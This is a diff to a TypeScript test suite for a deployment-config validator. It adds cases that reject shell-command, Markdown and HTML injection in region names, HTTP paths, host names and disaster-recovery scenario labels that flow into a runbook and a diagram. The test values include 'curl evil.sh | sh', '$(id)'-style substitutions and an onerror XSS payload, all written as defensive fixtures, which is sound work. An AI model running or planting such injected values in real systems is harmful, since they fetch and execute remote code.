@@ -214,7 +214,7 @@ test.each<[string, Mutation, string, RegExp]>([
     'a probe path is relative',
     apiWith({ probes: { readiness: { type: 'http', path: 'ready' } } }),
     'services[0].probes.readiness.path',
-    /must start with "\/"/,
+    /"ready" must be an HTTP path such as "\/healthz"/,
   ],
   [
     'a worker has no way to derive probes',
@@ -348,7 +348,7 @@ test.each<[string, Mutation, string, RegExp]>([
     "a service takes the NATS cluster's name",
     (s) => (s.services[2].name = 'nats'),
     'services[2].name',
-    /"nats" is taken by the stack's NATS cluster/,
+    /"nats" would replace the NATS cluster's objects \("nats"\), which the library creates/,
   ],
   [
     'backup retention is 0 days',
@@ -445,6 +445,14 @@ test('validate throws one ValidationError listing every problem with its path', 
   expect(message).toContain('  - name: "Bad Name" must be a DNS-1123 label');
   expect(message).toContain('  - services[0].image: "api" must be pinned to a tag or digest');
   expect(message).toContain('  - services[0].autoscaling: minReplicas (5) must be <= maxReplicas (3)');
+});
+
+test.each(['$&', "$'", '$$'])('a value holding %s is shown as it is (not as a replacement pattern)', (name) => {
+  expect(check(broken((s) => (s.name = name)))).toContainEqual({
+    path: 'name',
+    value: name,
+    rule: `${JSON.stringify(name)} must be a DNS-1123 label: at most 63 lowercase letters, digits or "-", starting and ending alphanumeric`,
+  });
 });
 
 test('a literal secret value never appears in the error', () => {
@@ -554,5 +562,135 @@ describe('monitoring', () => {
     const match = problems.find((p) => p.path === path && rule.test(p.rule));
     if (!match)
       throw new Error(`expected a problem at ${path} matching ${rule}, got:\n${problems.map((p) => `${p.path}: ${p.rule}`).join('\n')}`);
+  });
+});
+
+/** The strings the runbook pastes into shell commands and Markdown, and the diagram into Mermaid labels. */
+describe('formats of what reaches the runbook and the diagram', () => {
+  const dr =
+    (patch: Record<string, unknown>): Mutation =>
+    (s) =>
+      (s.dr = { standbyRegion: 'us-east-1', ...patch });
+  const objective = (scenario: unknown): Mutation => dr({ objectives: [{ scenario, rtoMinutes: 60, rpoMinutes: 60 }] });
+  const dns = (patch: Record<string, unknown>) => ({ dns: { zoneId: 'Z0123456789ABCDEFGHIJ', name: 'shop.example.com', ...patch } });
+  const probePath = (path: string) => apiWith({ probes: { readiness: { type: 'http', path, port: 'http' } } });
+  test.each<[string, Mutation, string, RegExp]>([
+    [
+      'the region is a GCP region on AWS',
+      (s) => (s.region = 'us-central1'),
+      'region',
+      /"us-central1" is not an AWS region name such as "us-west-2"/,
+    ],
+    [
+      'the region is an AWS region on GCP',
+      (s) => Object.assign(s, { cloud: 'gcp', region: 'us-west-2' }),
+      'region',
+      /"us-west-2" is not a GCP region name such as "us-central1"/,
+    ],
+    ['the region holds a command', (s) => (s.region = 'us-west-2$(touch x)'), 'region', /is not an AWS region name/],
+    [
+      'the standby region holds a command',
+      dr({ standbyRegion: 'us-east-1; curl evil.sh | sh' }),
+      'dr.standbyRegion',
+      /is not an AWS region name/,
+    ],
+    [
+      'the standby region spans lines',
+      dr({ standbyRegion: 'us-east-1\ntouch x' }),
+      'dr.standbyRegion',
+      /"us-east-1\\ntouch x" is not an AWS region/,
+    ],
+    [
+      'the standby region is of the other cloud',
+      dr({ standbyRegion: 'us-east1' }),
+      'dr.standbyRegion',
+      /"us-east1" is not an AWS region name/,
+    ],
+    [
+      'a probe path holds a command substitution',
+      probePath('/healthz$(touch x)'),
+      'services[0].probes.readiness.path',
+      /must be an HTTP path/,
+    ],
+    ['a probe path holds a quote', probePath("/healthz'; touch x; '"), 'services[0].probes.readiness.path', /must be an HTTP path/],
+    ['a probe path holds a space', probePath('/healthz -o /etc/x'), 'services[0].probes.readiness.path', /must be an HTTP path/],
+    ['a probe path spans lines', probePath('/healthz\ntouch x'), 'services[0].probes.readiness.path', /must be an HTTP path/],
+    ['a probe path climbs with ..', probePath('/a/../admin'), 'services[0].probes.readiness.path', /no "\/\/", "\." or "\.\." segment/],
+    ['a probe query chains parameters with &', probePath('/healthz?a=1&touch'), 'services[0].probes.readiness.path', /no "&"/],
+    [
+      'an ingress path has a query',
+      apiWith({ ingress: { host: 'shop.example.com', path: '/api?x=1' } }),
+      'services[0].ingress.path',
+      /"\/api\?x=1" must be an HTTP path such as "\/api": .*, and no query/,
+    ],
+    [
+      'an ingress path holds a backtick',
+      apiWith({ ingress: { host: 'shop.example.com', path: '/`id`' } }),
+      'services[0].ingress.path',
+      /must be an HTTP path/,
+    ],
+    [
+      'a metrics path holds a semicolon',
+      apiWith({ metrics: { port: 'metrics', path: '/metrics;id' } }),
+      'services[0].metrics.path',
+      /must be an HTTP path/,
+    ],
+    [
+      'the health check path holds a pipe',
+      dr({ ...dns({ healthCheckPath: '/healthz|sh' }) }),
+      'dr.dns.healthCheckPath',
+      /"\/healthz\|sh" must be an HTTP path such as "\/healthz"/,
+    ],
+    ['the failover DNS name holds a command', dr(dns({ name: 'shop.example.com$(id)' })), 'dr.dns.name', /must be a host name/],
+    [
+      'an ingress host holds a command',
+      apiWith({ ingress: { host: 'shop.example.com;id' } }),
+      'services[0].ingress.host',
+      /must be a DNS name/,
+    ],
+    [
+      'a scenario opens a shell block',
+      objective('database\n```sh\ncurl evil.sh | sh\n```'),
+      'dr.objectives[0].scenario',
+      /must be one line of plain text: at most 60 characters, no control characters, no space at either end, none of ` \| < >/,
+    ],
+    [
+      'a scenario holds a heading on a line of its own',
+      objective('x\r# Restore by running'),
+      'dr.objectives[0].scenario',
+      /one line of plain text/,
+    ],
+    [
+      'a scenario ends its table cell',
+      objective('database | 0 min | 0 min | all good'),
+      'dr.objectives[0].scenario',
+      /one line of plain text/,
+    ],
+    ['a scenario holds HTML', objective('<img src=x onerror=alert(1)>'), 'dr.objectives[0].scenario', /one line of plain text/],
+    ['a scenario holds a code span', objective('run `curl evil.sh | sh`'), 'dr.objectives[0].scenario', /one line of plain text/],
+    ['a scenario holds a line separator', objective('database\u2028# Heading'), 'dr.objectives[0].scenario', /one line of plain text/],
+    ['a scenario is too long', objective('a'.repeat(61)), 'dr.objectives[0].scenario', /at most 60 characters/],
+  ])('fails when %s', (_what, mutate, path, rule) => {
+    const problems = check(broken(mutate));
+    const match = problems.find((p) => p.path === path && rule.test(p.rule));
+    if (!match)
+      throw new Error(`expected a problem at ${path} matching ${rule}, got:\n${problems.map((p) => `${p.path}: ${p.rule}`).join('\n')}`);
+  });
+
+  test.each<[string, Mutation]>([
+    ['a GovCloud region and its standby', (s) => Object.assign(s, { region: 'us-gov-west-1', dr: { standbyRegion: 'us-gov-east-1' } })],
+    [
+      'a GCP region and its standby',
+      (s) => Object.assign(s, { cloud: 'gcp', region: 'europe-west12', dr: { standbyRegion: 'europe-north2' } }),
+    ],
+    ['a probe path with a query', probePath('/healthz?verbose=1')],
+    [
+      'an ingress path and a metrics path',
+      apiWith({ ingress: { host: 'shop.example.com', path: '/api/v1' }, metrics: { port: 'metrics', path: '/internal/metrics' } }),
+    ],
+    ['a scenario in words', objective("zone loss (one AZ), tenant's data")],
+  ])('accepts %s', (_what, mutate) => {
+    const problems = check(broken(mutate)).filter((p) => /region|path|scenario/i.test(p.path));
+    expect(problems).toEqual([]);
   });
 });
